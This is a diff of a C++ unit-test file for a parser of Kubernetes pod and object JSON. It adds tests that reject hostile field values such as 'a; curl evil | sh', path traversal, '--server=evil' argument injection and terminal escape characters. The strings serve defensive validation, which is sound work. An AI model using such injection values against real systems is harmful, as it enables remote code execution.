@@ -14,7 +14,12 @@ std::string list_of(const std::string& items) {
     return R"({"apiVersion":"v1","kind":"List","items":[)" + items + "]}";
 }
 
+std::string pod_with(const std::string& metadata) {
+    return R"({"kind":"Pod","metadata":{)" + metadata + "}}";
+}
+
 constexpr std::string_view whole_pod = R"({
+  "kind": "Pod",
   "metadata": {
     "name": "diego-api-0", "uid": "u-0", "creationTimestamp": "2026-11-22T10:00:00Z",
     "labels": {"skiff-role-name": "diego-api", "skiff-role-active": "true"},
@@ -94,7 +99,7 @@ TEST(ParsePods, KnowsStates) {
     const std::vector<StateRow> table{
         {"2/2", std::string(whole_pod), true, "2/2 Running"},
         {"1/1",
-         R"({"metadata":{"name":"api-0","labels":{"skiff-role-name":"api"}},"spec":{"containers":[{}]},)"
+         R"({"kind":"Pod","metadata":{"name":"api-0","labels":{"skiff-role-name":"api"}},"spec":{"containers":[{}]},)"
          R"("status":{"phase":"Running","conditions":[{"type":"Ready","status":"True"}],)"
          R"("containerStatuses":[{"ready":true}]}})",
          true, "1/1 Running"},
@@ -119,12 +124,12 @@ TEST(ParsePods, KnowsStates) {
          "2/2 Running"},
         {"no conditions", with("conditions", "otherConditions"), false, "2/2 Running"},
         {"unscheduled",
-         R"({"metadata":{"name":"diego-api-0","labels":{"skiff-role-name":"diego-api"}},)"
+         R"({"kind":"Pod","metadata":{"name":"diego-api-0","labels":{"skiff-role-name":"diego-api"}},)"
          R"("spec":{"containers":[{},{}]},"status":{"phase":"Pending","conditions":[{"type":"PodScheduled",)"
          R"("status":"False","reason":"Unschedulable","message":"0/3 nodes are available"}]}})",
          false, "0/2 Pending", "Unschedulable: 0/3 nodes are available"},
         {"unscheduled without a message",
-         R"({"metadata":{"name":"diego-api-0","labels":{"skiff-role-name":"diego-api"}},)"
+         R"({"kind":"Pod","metadata":{"name":"diego-api-0","labels":{"skiff-role-name":"diego-api"}},)"
          R"("status":{"phase":"Pending","conditions":[{"type":"PodScheduled","status":"False",)"
          R"("reason":"Unschedulable"}]}})",
          false, "0/0 Pending", "Unschedulable: Unschedulable"},
@@ -197,12 +202,10 @@ TEST(ParsePods, KnowsWhoseAPodIs) {
          R"("name":"api-0","labels":{"skiff-role-name":"something-else"})", ""},
         {"api-worker", R"("name":"api-worker-0","ownerReferences":[{"controller":true,"name":"api-worker"}])",
          ""},
-        {"no name", R"("labels":{"skiff-role-name":"api"})", ""},
-        {"name is a number", R"("name":7,"labels":{"skiff-role-name":"api"})", ""},
     };
     for (const RoleRow& row : table) {
         SCOPED_TRACE(row.name);
-        const Answer<std::vector<Pod>> pods = parse_pods(list_of("{\"metadata\":{" + row.metadata + "}}"));
+        const Answer<std::vector<Pod>> pods = parse_pods(list_of(pod_with(row.metadata)));
         ASSERT_TRUE(pods.is_known());
         ASSERT_EQ(pods.value().size(), row.role_name.empty() ? 0U : 1U);
         if (!row.role_name.empty()) {
@@ -217,7 +220,7 @@ TEST(ParsePods, HasAnOwnerOnlyWhereOneControls) {
         std::string name;
     };
     const std::string before =
-        R"({"metadata":{"name":"api-0","labels":{"skiff-role-name":"api"},"ownerReferences":)";
+        R"({"kind":"Pod","metadata":{"name":"api-0","labels":{"skiff-role-name":"api"},"ownerReferences":)";
     const std::vector<Row> table{
         {R"([{"name":"api","controller":true}])", "api"},
         {R"([{"name":"api"}])", ""},
@@ -260,8 +263,9 @@ TEST(ParsePods, StandsWrongTypesEverywhere) {
             SCOPED_TRACE(key + ": " + value);
             const std::string text = with("\"" + key + "\":", "\"" + key + "\": " + value + ", \"was\":");
             const Answer<std::vector<Pod>> pods = parse_pods(list_of(text));
-            ASSERT_TRUE(pods.is_known());
-            ASSERT_LE(pods.value().size(), 1U);
+            const bool is_name = key == "metadata" || key == "uid" || key == "nodeName" || key == "podIP";
+            ASSERT_TRUE(pods.is_known() || is_name);
+            ASSERT_TRUE(!pods.is_known() || pods.value().size() <= 1U);
         }
     }
     const std::vector<std::pair<std::string, std::string>> not_ready{
@@ -281,7 +285,7 @@ TEST(ParsePods, StandsHugeNumbersAndDeepNesting) {
          {"2147483648", "-9223372036854775808", "18446744073709551615", "99999999999999999999999", "1e308"})
         EXPECT_EQ(parsed(with(R"("restartCount": 2)", R"("restartCount": )" + number)).name, "diego-api-0");
     const std::string deep = std::string(100'000, '[') + std::string(100'000, ']');
-    EXPECT_EQ(parsed(with(R"("podIP": "10.0.0.1")", R"("podIP": )" + deep)).name, "diego-api-0");
+    EXPECT_EQ(parsed(with(R"("phase": "Running")", R"("phase": )" + deep)).name, "diego-api-0");
     EXPECT_FALSE(parse_pods(std::string(200'000, '[')).is_known());
     EXPECT_FALSE(parse_pods(std::string(200'000, '{')).is_known());
 }
@@ -318,11 +322,49 @@ TEST(ParsePods, SaysWhenItIsNoList) {
 }
 
 TEST(ParsePods, TakesAnEmptyListForAnAnswer) {
-    for (const std::string& text : {list_of(""), list_of("null,7,[],\"x\",{}")}) {
-        const Answer<std::vector<Pod>> pods = parse_pods(text);
-        ASSERT_TRUE(pods.is_known()) << text;
-        EXPECT_TRUE(pods.value().empty()) << text;
+    const Answer<std::vector<Pod>> pods = parse_pods(list_of(""));
+    ASSERT_TRUE(pods.is_known());
+    EXPECT_TRUE(pods.value().empty());
+}
+
+TEST(ParsePods, AListOfOtherThingsIsNoListOfPods) {
+    for (const std::string items :
+         {"null", "7", "[]", "\"x\"", "{}", R"({"kind":"Pod"})", R"({"metadata":{"name":"x"}})",
+          R"({"kind":"ConfigMap","metadata":{"name":"x"}})", R"({"kind":7,"metadata":{"name":"x"}})"}) {
+        for (const std::string& text : {list_of(items), list_of(std::string(whole_pod) + "," + items)})
+            EXPECT_EQ(parse_pods(text).is_known(), false) << text;
     }
+}
+
+// Whoever made a recording could write anything there, and it is printed, typed or made a file's name.
+TEST(ParsePods, APodWithANameThatCannotBeIsNoPod) {
+    const std::vector<std::pair<std::string, std::string>> table{
+        {R"("name": "diego-api-0")", R"("name": "../../tmp/x")"},
+        {R"("name": "diego-api-0")", R"("name": "a; curl evil | sh")"},
+        {R"("name": "diego-api-0")", R"("name": "a\u001b[2J")"},
+        {R"("name": "diego-api-0")", R"("name": "a\u202e")"},
+        {R"("name": "diego-api-0")", R"("name": "")"},
+        {R"("name": "diego-api-0")", R"("name": 7)"},
+        {R"("name": "diego-api-0")", R"("was": 7)"},
+        {R"("uid": "u-0")", R"("uid": "'; curl evil | sh; '")"},
+        {R"("name": "diego-api", "uid": "s-0")", R"("name": "diego/api", "uid": "s-0")"},
+        {R"("name": "diego-api", "uid": "s-0")", R"("name": "diego-api", "uid": "s 0")"},
+        {R"("kind": "StatefulSet")", R"("kind": "Stateful\nSet")"},
+        {R"("name": "diego-api", "ready")", R"("name": "--kubeconfig", "ready")"},
+        {R"("name": "diego-api", "ready")", R"("name": "diego.api", "ready")"},
+        {R"("nodeName": "node-1")", R"("nodeName": "--server=evil")"},
+        {R"("podIP": "10.0.0.1")", R"("podIP": "`evil`")"},
+    };
+    for (const auto& [from, to] : table) {
+        const Answer<std::vector<Pod>> pods = parse_pods(list_of(with(from, to)));
+        ASSERT_FALSE(pods.is_known()) << to;
+        EXPECT_EQ(pods.trouble().kind, Trouble::Kind::garbled) << to;
+    }
+}
+
+TEST(ParsePods, WhatIsOnlyToldIsShownHarmlessly) {
+    const Pod pod = parsed(with(R"("phase": "Running")", R"("phase": "\u001b[2J\u009b\u202eR")"));
+    EXPECT_EQ(pod.phase, "<U+001B>[2J<U+009B><U+202E>R");
 }
 
 TEST(ParsePods, APodThatNobodyKnowsTheAgeOfIsNotOld) {
@@ -343,8 +385,7 @@ TEST(ParseObjects, ReadsAllThreeKinds) {
         {"kind":"Endpoints","metadata":{"name":"null"},"subsets":null},
         {"kind":"StatefulSet","metadata":{"name":"diego-api","uid":"s-0"},"spec":{"replicas":2}},
         {"kind":"StatefulSet","metadata":{"name":"none"},"spec":{"replicas":0}},
-        {"kind":"StatefulSet","metadata":{"name":"unsaid","deletionTimestamp":"2026-11-22T10:00:00Z"},"spec":{}},
-        {"kind":"Secret","metadata":{"name":"x"}})"));
+        {"kind":"StatefulSet","metadata":{"name":"unsaid","deletionTimestamp":"2026-11-22T10:00:00Z"},"spec":{}})"));
     ASSERT_TRUE(objects.is_known());
     const auto& [services, endpoints, controllers] = objects.value();
     ASSERT_EQ(services.size(), 3U);
@@ -372,14 +413,31 @@ TEST(ParseObjects, ReadsAllThreeKinds) {
 
 TEST(ParseObjects, StandsWrongTypesAndNoLists) {
     const Answer<Objects> odd = parse_objects(list_of(
-        R"(7,null,[],{"kind":7},{"kind":"Service","spec":7,"metadata":[]},{"kind":"Endpoints","subsets":[7,{"addresses":[7]}]},
-           {"kind":"StatefulSet","spec":{"replicas":"many"}})"));
+        R"({"kind":"Service","spec":7,"metadata":{"name":"a"}},{"kind":"Endpoints","subsets":[7],"metadata":{"name":"a"}},
+           {"kind":"StatefulSet","spec":{"replicas":"many"},"metadata":{"name":"a"}})"));
     ASSERT_TRUE(odd.is_known());
     EXPECT_EQ(odd.value().services.size(), 1U);
     EXPECT_EQ(odd.value().controllers.size(), 1U);
     for (const std::string_view text : {"", "null", "{}", R"({"items":7})", R"({"items":[)", "\xff"})
         EXPECT_FALSE(parse_objects(text).is_known()) << text;
     EXPECT_TRUE(parse_objects(list_of("")).is_known());
+}
+
+TEST(ParseObjects, TakesNoOtherThingsAndNoNamesThatCannotBe) {
+    for (
+        const std::string items :
+        {"null", "7", "[]", "{}", R"({"kind":"Service"})", R"({"kind":"Secret","metadata":{"name":"x"}})",
+         R"({"kind":"Service","metadata":{"name":"x; sh"}})",
+         R"({"kind":"Service","metadata":{"name":"x.y"}})",
+         R"({"kind":"Endpoints","metadata":{"name":"\u202e"}})",
+         R"({"kind":"Endpoints","metadata":{"name":"x"},"subsets":[{"addresses":[7]}]})",
+         R"({"kind":"Endpoints","metadata":{"name":"x"},"subsets":[{"addresses":[{"ip":"`x`"}]}]})",
+         R"({"kind":"Endpoints","metadata":{"name":"x"},"subsets":[{"notReadyAddresses":[{"targetRef":{"name":"/"}}]}]})",
+         R"({"kind":"StatefulSet","metadata":{"name":"x","uid":"'"}})"}) {
+        const Answer<Objects> objects = parse_objects(list_of(items));
+        ASSERT_FALSE(objects.is_known()) << items;
+        EXPECT_EQ(objects.trouble().kind, Trouble::Kind::garbled);
+    }
 }
 
 TEST(ParseObjects, HugeReplicasAreNotSmall) {
